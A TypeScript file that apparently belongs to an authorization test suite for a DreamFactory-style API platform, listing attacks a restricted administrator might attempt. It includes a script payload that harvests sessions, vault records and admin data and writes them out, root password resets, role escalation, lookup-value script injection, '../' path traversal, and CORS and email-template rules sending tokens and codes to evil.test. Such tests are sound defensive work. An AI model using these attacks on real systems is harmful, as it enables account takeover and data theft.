import type { Answer, SendOptions } from '../send.ts'
import { zipOf } from '../zip.ts'

/** What an attacker knows and targets: people, access that the attacker lacks, and records that the attacker may not see. */
export interface AttackTargets {
  readonly self: { readonly id: number; readonly roleId: number }
  /** A role with full access. */
  readonly wideRole: number
  readonly app: { readonly id: number }
  /** Has the wide role. */
  readonly user: { readonly id: number; readonly email: string }
  readonly root: { readonly id: number; readonly email: string }
  readonly services: Readonly<Record<string, number>>
  readonly resetTemplate: number
  /** Returns a unique name. */
  name(): string
}

export type Try = (verb: string, path: string, options?: SendOptions) => Promise<Answer<unknown>>
type Attack = (attempt: Try, prey: AttackTargets) => Promise<void>

/** The password that attackers set for others and for their own accounts. */
export const stolen = 'a stolen password'

const record = (body: object) => ({ body: { resource: [body] } })

/** A script that does what it can with the access it gets, and reports what it sees wherever its author may look. */
const payload = (prey: AttackTargets) => `
  const seen = { event, user: platform.session.user, lookup: platform.session.lookup, pin: '{canary.pin}', token: '{session.token}' }
  for (const path of ['vault/_table/item', 'system/lookup', 'system/admin', 'system/user', 'user/session', 'user/profile', 'system/outbox'])
    seen[path] = (await platform.api.get(path)).content
  const told = JSON.stringify(seen)
  console.log(told)
  await platform.api.post('system/admin', { resource: [{ email: '${prey.name()}@evil.test', password: '${stolen}' }] })
  await platform.api.patch('system/user/${prey.user.id}', { password: '${stolen}' })
  await platform.api.patch('user/profile', { email: '${prey.name()}@evil.test' })
  await platform.api.patch('system/role/${prey.self.roleId}', { role_service_access_by_role_id: [{ service_id: null, component: '*', verb_mask: 31, requestor_mask: 3 }] })
  await platform.api.post('system/event_script/db._schema.get', { type: 'nodejs', content: 'return 1', is_active: true })
  for (const [verb, path] of [['post', 'system/custom'], ['post', 'db/_table/loot']]) await platform.api[verb](path, { resource: [{ name: '${prey.name()}', value: told }] })
  await platform.api.put('files/${prey.name()}.txt', told)
  if (event.response) event.response.content = told
`

const script = (prey: AttackTargets) => ({
  body: { type: 'nodejs', is_active: true, allow_event_modification: true, content: payload(prey) },
})
const service = (prey: AttackTargets, type: string, config: object) => {
  const name = prey.name()
  return record({ name, label: name, type, is_active: true, config })
}

/**
 * Attacks of a restricted administrator, by service and component of each tab rule that permits writes: a new tab or write
 * needs its own attack.
 */
export const attacks: Readonly<Record<string, Attack>> = {
  'system/admin/profile': async (attempt, { root }) => {
    await attempt('PATCH', 'system/admin/profile', { body: { is_root_admin: true, is_sys_admin: true, id: root.id } })
  },
  'system/admin/password': async (attempt, { root }) => {
    await attempt('POST', 'system/admin/password?reset=true', { body: { email: root.email } })
    await attempt('POST', 'system/admin/password', { body: { email: root.email, new_password: stolen } })
  },
  'system/app/*': async (attempt, prey) => {
    const role = { role_id: prey.wideRole }
    await attempt('POST', 'system/app', record({ name: prey.name(), type: 0, is_active: true, ...role }))
    await attempt('PATCH', `system/app/${prey.app.id}`, { body: { ...role, is_active: true } })
    const held = [{ user_id: prey.self.id, ...role }]
    await attempt('PATCH', `system/app/${prey.app.id}`, { body: { user_to_app_to_role_by_app_id: held } })
    await attempt('PATCH', `system/app/${prey.app.id}`, {
      body: { lookup_by_app_id: [{ name: 'canary.part', value: `'; ${payload(prey)}; '` }] },
    })
  },
  'system/user/*': async (attempt, prey) => {
    const roles = [{ app_id: prey.app.id, role_id: prey.wideRole }]
    const person = { email: `${prey.name()}@evil.test`, password: stolen, user_to_app_to_role_by_user_id: roles }
    await attempt('POST', 'system/user', record(person))
    for (const body of [{ password: stolen }, { email: `${prey.name()}@evil.test` }, { is_sys_admin: true }])
      await attempt('PATCH', `system/user/${prey.user.id}`, { body })
    await attempt('PATCH', `system/user/${prey.root.id}`, { body: { password: stolen } })
  },
  'system/service_type/': async (attempt) => {
    await attempt('POST', 'system/service_type', record({ name: 'own' }))
  },
  'system/service/*': async (attempt, prey) => {
    const { services } = prey
    const open = { allow_open_registration: true, open_reg_role_id: prey.wideRole, open_reg_email_service_id: null }
    await attempt('PATCH', `system/service/${services.user}`, { body: { config: open } })
    await attempt('PATCH', `system/service/${services.system}`, { body: { config: { password_email_template_id: 1 } } })
    await attempt('PATCH', `system/service/${services.email}`, { body: { config: { from_email: 'a@evil.test' } } })
    await attempt('DELETE', `system/service/${services.email}?force=true`)
    const directory = { host: '127.0.0.1', port: 1, base_dn: 'dc=x', default_role: prey.wideRole }
    await attempt('POST', 'system/service', service(prey, 'ldap', directory))
    const provider = {
      client_id: 'a',
      client_secret: 'b',
      redirect_url: 'http://evil.test',
      default_role: prey.wideRole,
    }
    await attempt('POST', 'system/service', service(prey, 'oauth_github', provider))
    await attempt('POST', 'system/service', service(prey, 'nodejs', { content: payload(prey) }))
    await attempt('POST', 'system/service', service(prey, 'nodejs', { content: payload(prey), queued: true }))
    const headers = [
      {
        name: 'X-DreamFactory-Session-Token',
        value: '{session.token} {canary.pin}',
        pass_from_client: true,
        action: 31,
      },
    ]
    await attempt(
      'POST',
      'system/service',
      service(prey, 'rws', { base_url: 'http://127.0.0.1:1/{canary.pin}', headers }),
    )
    await attempt('PATCH', `system/service/${services.files}`, { body: { config: { container: '../' } } })
    await attempt('POST', 'system/service', service(prey, 'sqlite', { database: '../../millwright.sqlite' }))
  },
  'api_docs/*': async (attempt) => {
    await attempt('POST', 'api_docs/vault', { body: {} })
  },
  'db/*': async (attempt, { services }) => {
    const field = [
      { name: 'id', type: 'id' },
      { name: 'name', type: 'string' },
      { name: 'value', type: 'text' },
    ]
    await attempt('POST', 'db/_schema', record({ name: 'loot', field }))
    const to = {
      is_virtual: true,
      type: 'belongs_to',
      field: 'id',
      ref_service_id: services.vault,
      ref_table: 'item',
      ref_field: 'id',
    }
    await attempt('PATCH', 'db/_schema/loot', { body: { related: [to] } })
    await attempt('POST', 'db/_table/loot', record({ id: 1, name: 'a', value: 'b' }))
    await attempt('GET', 'db/_table/loot?related=*')
  },
  'files/*': async (attempt, prey) => {
    await attempt('PUT', 'files/trusted/script.js', { body: payload(prey) })
    await attempt('DELETE', 'files/trusted/?force=true')
    await attempt('POST', 'files/?extract=true', {
      body: await zipOf({ 'trusted/script.js': payload(prey) }),
      headers: { 'x-file-name': 'a.zip', 'content-type': 'application/zip' },
    })
  },
  'logs/*': async (attempt, prey) => {
    await attempt('POST', `logs/${prey.name()}.txt`, { body: 'x' })
  },
  'system/event/*': async (attempt) => {
    await attempt('POST', 'system/event', { body: {} })
  },
  'system/event_script/*': async (attempt, prey) => {
    const events = [
      'system.role.get',
      'system.admin.session.post',
      'user.session.post',
      'user.password.post',
      'vault._table.{table_name}.get',
      'vault._table.item.post',
      'db._schema.get',
    ]
    for (const event of events) {
      for (const phase of ['.pre_process', '.post_process', '', '.queued'])
        await attempt('POST', `system/event_script/${event}${phase}`, script(prey))
      await attempt('POST', `system/event_script/${event}/event`, { body: { minutes: 10 } })
      await attempt('POST', `system/event_script/${event}/trial`, {
        body: { type: 'nodejs', content: payload(prey), simulate: false },
      })
    }
    const source = { storage_service_id: prey.services.files, storage_path: 'trusted/script.js' }
    await attempt('POST', 'system/event_script/db.get/trial', { body: { type: 'nodejs', ...source, simulate: false } })
    await attempt('PATCH', 'system/event_script/vault._table.item.get', script(prey))
  },
  'system/script_type/*': async (attempt) => {
    await attempt('POST', 'system/script_type', record({ name: 'own' }))
  },
  'system/custom/*': async (attempt, prey) => {
    await attempt('POST', 'system/custom', record({ name: prey.name(), value: '{canary.pin}' }))
  },
  'system/cache/*': async (attempt) => {
    await attempt('DELETE', 'system/cache')
    await attempt('DELETE', 'system/cache/_event/vault._table.item.get')
  },
  'system/cors/*': async (attempt) => {
    await attempt(
      'POST',
      'system/cors',
      record({ path: '*', origin: 'http://evil.test', method: 31, supports_credentials: true }),
    )
  },
  'system/email_template/*': async (attempt, prey) => {
    const body = { body_html: '<img src="http://evil.test/{confirm_code}">', bcc: 'a@evil.test' }
    await attempt('PATCH', `system/email_template/${prey.resetTemplate}`, { body })
    await attempt('DELETE', `system/email_template/${prey.resetTemplate}`)
    await attempt(
      'POST',
      'system/email_template',
      record({ name: prey.name(), subject: '{session.token} {canary.pin}' }),
    )
  },
  'system/lookup/*': async (attempt, prey) => {
    await attempt('POST', 'system/lookup', record({ name: 'canary.part', value: `'; ${payload(prey)}; '` }))
  },
  'email/*': async (attempt) => {
    const mail = { to: 'a@evil.test', subject: '{canary.pin}', body_text: '{session.token} {canary.pin}' }
    await attempt('POST', 'email', { body: mail })
    await attempt('POST', 'email?template=password', { body: mail })
  },
  'system/package/*': async (attempt, prey) => {
    const name = prey.name()
    const contents: readonly object[] = [
      {
        'system/role.json': [
          { id: 1, name, role_service_access_by_role_id: [{ component: '*', verb_mask: 31, requestor_mask: 3 }] },
        ],
      },
      { 'system/user.json': [{ id: prey.user.id, email: prey.user.email, name, password: stolen }] },
      { 'system/event_script.json': [{ name: 'system.role.get.post_process', ...script(prey).body }] },
      {
        'system/scheduler.json': [
          { id: 1, name, service_id: prey.services.system, component: 'admin', verb_mask: 1, is_active: true },
        ],
      },
    ]
    for (const content of contents) {
      const [path = ''] = Object.keys(content)
      const type = path.slice('system/'.length, -'.json'.length)
      const archive = await zipOf({
        'package.json': { version: '0.1', service: { system: { [type]: [name] } } },
        ...content,
      })
      const form = new FormData()
      form.append('files', new Blob([archive]), 'a.zip')
      form.append('overwrite', 'true')
      const encoded = new Response(form)
      const headers = { 'content-type': encoded.headers.get('content-type') ?? '' }
      await attempt('POST', 'system/package', { headers, body: new Uint8Array(await encoded.arrayBuffer()) })
    }
    const storage = { name: 'files', folder: 'loot', filename: 'loot' }
    await attempt('POST', 'system/package', {
      body: { storage, service: { vault: { _table: ['item'] }, system: { admin: ['*'] } } },
    })
  },
  'system/limit/*': async (attempt, prey) => {
    await attempt(
      'POST',
      'system/limit',
      record({ name: prey.name(), type: 'instance', rate: 100_000, period: 'day', is_active: true }),
    )
  },
  'system/limit_cache/*': async (attempt) => {
    await attempt('DELETE', 'system/limit_cache')
  },
  'system/scheduler/*': async (attempt, prey) => {
    const to = (service: string, component: string, verb: string, sent: object = {}, by: object = {}) =>
      attempt(
        'POST',
        'system/scheduler',
        record({
          name: prey.name(),
          service_id: prey.services[service],
          component,
          verb,
          payload: sent,
          frequency: 1,
          is_active: true,
          ...by,
        }),
      )
    for (const by of [{}, { user_id: prey.root.id, app_id: prey.app.id }]) {
      await to('system', `user/${prey.user.id}`, 'PATCH', { password: stolen }, by)
      await to('system', `role/${prey.self.roleId}`, 'PATCH', { name: prey.name() }, by)
      await to('system', 'event_script/db._schema.get', 'POST', script(prey).body, by)
      await to('user', 'profile', 'PATCH', { email: `${prey.name()}@evil.test` }, by)
      await to('vault', '_table/item', 'GET', {}, by)
    }
  },
}
